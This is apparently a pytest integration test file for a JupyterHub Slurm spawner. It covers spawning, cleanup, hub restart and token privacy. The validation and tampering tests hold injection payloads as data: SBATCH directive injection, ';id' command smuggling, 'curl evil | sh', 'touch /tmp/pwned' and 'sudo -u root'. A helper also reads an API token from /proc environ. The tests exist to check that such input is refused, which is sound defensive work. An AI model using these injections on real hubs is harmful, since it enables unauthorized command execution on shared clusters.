"""HpcSpawner on the testbed: a real JupyterHub, proxy, slurmctld and compute nodes."""

from __future__ import annotations

import time

import pytest
import requests

from tests.testbed.hubtools import sbatch_sleepers, squeue, wait_server

pytestmark = pytest.mark.testbed


@pytest.mark.both_generations
def test_rest_spawn_runs_jupyterlab_on_a_compute_node_as_alice(hub, testbed):
    if hub.server("alice"):  # an earlier test's server (the hub is shared by the session)
        hub.stop("alice")
        hub.wait_stopped("alice")
    r = hub.spawn("alice", {"preset": "debug"})
    assert r.status_code in (201, 202), r.text
    server = hub.wait_ready("alice")
    job_id = server["state"]["job_id"]
    (job,) = [j for j in squeue(testbed, "alice", "%i", "%j", "%u", "%T", "%N") if j[0] == job_id]
    assert job[1:4] == ["hpcb-nb-alice", "alice", "RUNNING"]
    assert job[4] in testbed.info().nodes
    token = hub.user_token("alice")
    lab = requests.get(f"{hub.url}/user/alice/lab", timeout=30,
                       headers={"Authorization": f"token {token}"})
    assert lab.status_code == 200 and "JupyterLab" in lab.text
    status = requests.get(f"{hub.url}/user/alice/api/status", timeout=30,
                          headers={"Authorization": f"token {token}"})
    assert status.status_code == 200
    # JupyterLab lists the walltime extension, and its server side knows the job's time
    # left from the scheduler (the browser side: test_spawn_form_browser.py)
    assert '"name": "@hpcbridge/walltime"' in lab.text.replace('\\"', '"')
    left = requests.get(f"{hub.url}/user/alice/hpcbridge/walltime", timeout=30,
                        headers={"Authorization": f"token {token}"}).json()
    assert left["job_id"] == job_id and 0 < left["left"] <= 30 * 60, left
    # the token travelled in a private file that the launcher deleted
    env_file = server["state"]["env_file"]
    assert env_file.startswith("/home/alice/.hpcbridge/")
    assert testbed.login_exec("alice", ["test", "-e", env_file]).returncode == 1


@pytest.mark.parametrize("options, reason", [
    ({"partition": "debug", "walltime": "05:00:00"}, "over partition debug's max_walltime"),
    ({"cores": 64}, "cores_per_node 8"),
    ({"partition": "gpu", "gpus": 3}, "gpus"),
    ({"partition": "debug\n#SBATCH --uid=0"}, "not a valid name"),
    ({"account": "proj_a;id"}, "not a valid name"),
    ({"walltime": "00:10:00\n#SBATCH -p gpu"}, "walltime"),
    ({"cmd": "id"}, "unknown option 'cmd'"),
    ({"prologue": "curl evil | sh"}, "unknown option 'prologue'"),
])
def test_bad_options_are_refused_with_the_reason_and_nothing_is_submitted(
        hub, testbed, options, reason):
    before = squeue(testbed, "carol", "%i")
    r = hub.spawn("carol", options)
    assert r.status_code == 400, r.text
    assert reason in r.json()["message"]
    assert squeue(testbed, "carol", "%i") == before
    assert hub.server("carol") == {}


def _server_token(hub, testbed, user: str) -> str:
    """What a user can read on her node: the token in her notebook kernel's environment
    (the server process got it from the launcher in-process, after its exec)."""
    job_id = hub.server(user)["state"]["job_id"]
    (node,) = [j[1] for j in squeue(testbed, user, "%i", "%N") if j[0] == job_id]
    api = f"{hub.url}/user/{user}/api/kernels"
    headers = {"Authorization": f"token {hub.user_token(user)}"}
    kernel = requests.post(api, headers=headers, json={}, timeout=60)
    assert kernel.status_code == 201, kernel.text
    try:
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline:
            pids = testbed.exec(node, ["pgrep", "-u", user, "-f", "ipykernel"],
                                user=user).stdout.split()
            for pid in pids:
                environ = testbed.exec(node, ["cat", f"/proc/{pid.decode()}/environ"],
                                       user=user).stdout
                env = dict(item.split(b"=", 1) for item in environ.split(b"\0") if b"=" in item)
                if env.get(b"SLURM_JOB_ID") == job_id.encode() and b"JUPYTERHUB_API_TOKEN" in env:
                    return env[b"JUPYTERHUB_API_TOKEN"].decode()
            time.sleep(0.5)
        raise AssertionError(f"no kernel of {user}'s server found on {node}")
    finally:
        requests.delete(f"{api}/{kernel.json()['id']}", headers=headers, timeout=60)


def test_port_callback_tampering_is_refused_and_changes_nothing(hub, testbed):
    if not hub.server("alice").get("ready"):
        hub.spawn("alice", {"preset": "debug"})
        hub.wait_ready("alice")
    token = _server_token(hub, testbed, "alice")
    url = f"{hub.url}/hub/api/batchspawner"
    headers = {"Authorization": f"token {token}"}
    attacks = [
        {"port": 5555, "batch_query_cmd": "touch /tmp/pwned"},
        {"batch_query_cmd": "touch /tmp/pwned"},
        {"exec_prefix": "sudo -u root"},
        {"ip": "10.0.0.1", "port": 5555},
        {"port": "5555; id"},
        {"port": 22},
        ["port", 5555],
    ]
    for body in attacks:
        r = requests.post(url, json=body, headers=headers, timeout=30)
        assert r.status_code == 400, (body, r.status_code, r.text)
    # a well-formed body from a server that is not waiting for its port: refused too
    r = requests.post(url, json={"port": 5555}, headers=headers, timeout=30)
    assert r.status_code == 403
    # and with no token at all
    assert requests.post(url, json={"port": 5555}, timeout=30).status_code == 403
    before = hub.server("alice")
    time.sleep(4)  # a poll round of the hub (status_interval 3 s)
    after = hub.server("alice")
    assert after.get("ready") and after["url"] == before["url"]
    assert not (tmp := __import__("pathlib").Path("/tmp/pwned")).exists(), tmp


def test_stop_cancels_the_job(hub, testbed):
    if not hub.server("alice").get("ready"):
        hub.spawn("alice", {"preset": "debug"})
        hub.wait_ready("alice")
    job_id = hub.server("alice")["state"]["job_id"]
    r = hub.stop("alice")
    assert r.status_code in (202, 204)
    hub.wait_stopped("alice")
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline:
        state = testbed.login_exec("alice", ["squeue", "-h", "-j", job_id, "-o", "%T"]
                                   ).stdout.decode().strip()
        if state in ("", "CANCELLED", "COMPLETED"):
            break
        time.sleep(1)
    assert state in ("", "CANCELLED", "COMPLETED")


def _sleeper(testbed, user: str, name: str) -> str:
    out = testbed.login_exec(user, ["sbatch", "--parsable", "-J", name, "-t", "10", "-c", "1",
                                    "--mem=100M", "-o", "/dev/null", "--wrap", "sleep 600"])
    return out.stdout.decode().strip()


def test_a_stopped_servers_dask_workers_are_cancelled_and_no_other_job(hub, testbed):
    # what jupyterhub-idle-culler does to an idle server: DELETE it through the REST API
    if not hub.server("alice").get("ready"):
        hub.spawn("alice", {"preset": "debug"})
        hub.wait_ready("alice")
    job_id = hub.server("alice")["state"]["job_id"]
    # worker jobs as a Dask cluster in that server names them (hpcbridge.jobs), and a
    # worker job of another server of hers
    ours = {_sleeper(testbed, "alice", f"hpcb-dask-j{job_id}-a1b2c3") for _ in range(2)}
    other = _sleeper(testbed, "alice", f"hpcb-dask-j{job_id}0-a1b2c3")
    try:
        assert hub.stop("alice").status_code in (202, 204)
        hub.wait_stopped("alice")
        deadline = time.monotonic() + 30
        while time.monotonic() < deadline:
            left = {j[0] for j in squeue(testbed, "alice", "%i")}
            if not left & (ours | {job_id}):
                break
            time.sleep(1)
        assert not left & (ours | {job_id}), left
        assert other in left
    finally:
        testbed.login_exec("alice", ["scancel", other, *ours])


def test_job_that_dies_before_reporting_its_port_fails_fast(hub, testbed):
    # A broken login script is a classic reason for a notebook job to die at once.
    profile = "/home/carol/.bash_profile"
    testbed.login_exec("carol", ["tee", profile], input=b"exit 3\n")
    try:
        started = time.monotonic()
        r = hub.spawn("carol", {"preset": "debug"})
        if r.status_code == 202:
            deadline = time.monotonic() + 120
            while hub.server("carol") and time.monotonic() < deadline:
                time.sleep(0.5)
        else:
            assert r.status_code == 500 and "ended before the server started" in r.text
        elapsed = time.monotonic() - started
        assert hub.server("carol") == {}
        assert elapsed < 60, elapsed  # not start_timeout (900 s)
        # what the spawn page shows: the reason as a sentence, not "HTTP 500: Internal …"
        events = hub.request("GET", "/users/carol/server/progress").text
        assert "Spawn failed: job " in events and "ended before the server started" in events
        assert "HTTP 500" not in events and "Internal Server Error" not in events
    finally:
        testbed.login_exec("carol", ["rm", "-f", profile])


@pytest.mark.both_generations
def test_hub_killed_with_a_pending_and_a_running_server_reattaches_both(hub, testbed):
    check_reattach_after_sigkill(hub, testbed)


def check_reattach_after_sigkill(hub, testbed) -> None:  # type: ignore[no-untyped-def]
    """alice has a running and a queued server; SIGKILL the hub, restart it: both come
    back on their jobs, and an orphaned notebook job of this hub (only) is cancelled."""
    import signal

    if not hub.server("alice").get("ready"):
        hub.spawn("alice", {"preset": "debug"})
        hub.wait_ready("alice")
    running_job = hub.server("alice")["state"]["job_id"]
    # QOS normal lets alice run 4 jobs: with 3 sleepers, her second server must queue.
    sleepers = sbatch_sleepers(testbed, "alice", 3)
    try:
        r = hub.spawn("alice", {"preset": "debug"}, server="second")
        assert r.status_code == 202, r.text
        pending = wait_server(hub, "alice", "second",
                              lambda s: (s.get("state") or {}).get("job_id"))
        pending_job = pending["state"]["job_id"]
        # a notebook job no server refers to (its submission returned as the hub died)
        orphan = testbed.login_exec("carol", [
            "sbatch", "--parsable", "-J", "hpcb-nb-carol", "-t", "5", "-c", "1", "--mem=100M",
            "-o", "/dev/null", "--wrap", "sleep 300"]).stdout.decode().strip()
        # a notebook job of another hub on the same cluster (configured with job_tag="other")
        other_hub = testbed.login_exec("carol", [
            "sbatch", "--parsable", "-J", "hpcb-nb.other-carol", "-t", "5", "-c", "1",
            "--mem=100M", "-o", "/dev/null", "--wrap", "sleep 300"]).stdout.decode().strip()
        hub.runner.kill(signal.SIGKILL)
        hub.runner.restart()
        testbed.login_exec("alice", ["scancel", sleepers.pop()])
        # the hub forgets the queued server at restart; the re-attach service starts it
        second = wait_server(hub, "alice", "second", lambda s: s.get("ready"), timeout=120)
        first = hub.wait_ready("alice")
        assert second["state"]["job_id"] == pending_job
        assert first["state"]["job_id"] == running_job
        names = [j for j in squeue(testbed, "alice", "%j") if j[0] == "hpcb-nb-alice-second"]
        assert len(names) == 1  # re-attached, not submitted again
        deadline = time.monotonic() + 60  # swept by the re-attach service after re-attaching
        while time.monotonic() < deadline:
            alive = [j[0] for j in squeue(testbed, "carol", "%i", "%T") if j[1] != "CANCELLED"]
            if orphan not in alive:
                break
            time.sleep(1)
        assert orphan not in alive
        assert other_hub in alive  # another hub's job is not this hub's orphan
    finally:
        testbed.login_exec("carol", ["scancel", "-n", "hpcb-nb.other-carol"])
        testbed.login_exec("alice", ["scancel", *sleepers])
        hub.stop("alice", "second")


def test_environment_modules_are_loaded_and_job_files_are_private(hub, testbed):
    r = hub.spawn("bob", {"preset": "debug", "environment": "modules-demo"})
    assert r.status_code in (201, 202), r.text
    try:
        server = hub.wait_ready("bob")
        job_id = server["state"]["job_id"]
        (node,) = [j[1] for j in squeue(testbed, "bob", "%i", "%N") if j[0] == job_id]
        pids = testbed.exec(node, ["pgrep", "-u", "bob", "-f", "hpcbridge.spawner.launch"],
                            user="bob").stdout.split()
        environs = [testbed.exec(node, ["cat", f"/proc/{p.decode()}/environ"], user="bob").stdout
                    for p in pids]
        mine = [e for e in environs if f"SLURM_JOB_ID={job_id}\0".encode() in e]
        assert mine and b"HPCBRIDGE_DEMO_MODULE=1.0\0" in mine[0]
        log = f"/home/bob/.hpcbridge/logs/hpcb-nb-bob-{job_id}.log"
        mode = testbed.login_exec("bob", ["stat", "-c", "%a", log]).stdout.decode().strip()
        assert mode == "600"
        # the token is in no argv on the node and not in the job's script or log
        token = _server_token(hub, testbed, "bob").encode()
        ps = testbed.exec(node, ["ps", "-eo", "args"]).stdout
        script = testbed.exec("ctl", ["scontrol", "write", "batch_script", job_id, "-"]).stdout
        text = testbed.login_exec("bob", ["cat", log]).stdout
        assert token not in ps and token not in script and token not in text
        assert b"hpcbridge.spawner.launch" in script
    finally:
        hub.stop("bob")
        hub.wait_stopped("bob")


def test_a_user_cannot_reach_or_stop_another_users_server(hub, testbed):
    if not hub.server("alice").get("ready"):
        hub.spawn("alice", {"preset": "debug"})
        hub.wait_ready("alice")
    bob = hub.user_token("bob")
    headers = {"Authorization": f"token {bob}"}
    r = requests.get(f"{hub.url}/user/alice/api/status", headers=headers, timeout=30,
                     allow_redirects=False)
    assert r.status_code in (302, 403, 404)
    r = requests.delete(f"{hub.url}/hub/api/users/alice/server", headers=headers, timeout=30)
    assert r.status_code in (403, 404)
    r = requests.post(f"{hub.url}/hub/api/users/alice/server", headers=headers, timeout=30,
                      json={"preset": "debug"})
    assert r.status_code in (403, 404)
    assert hub.server("alice").get("ready")


def test_no_server_token_in_the_hub_log(hub, testbed):
    if not hub.server("alice").get("ready"):
        hub.spawn("alice", {"preset": "debug"})
        hub.wait_ready("alice")
    token = _server_token(hub, testbed, "alice")
    log = (hub.runner.dir / "jupyterhub.log").read_text(errors="replace")
    assert token not in log
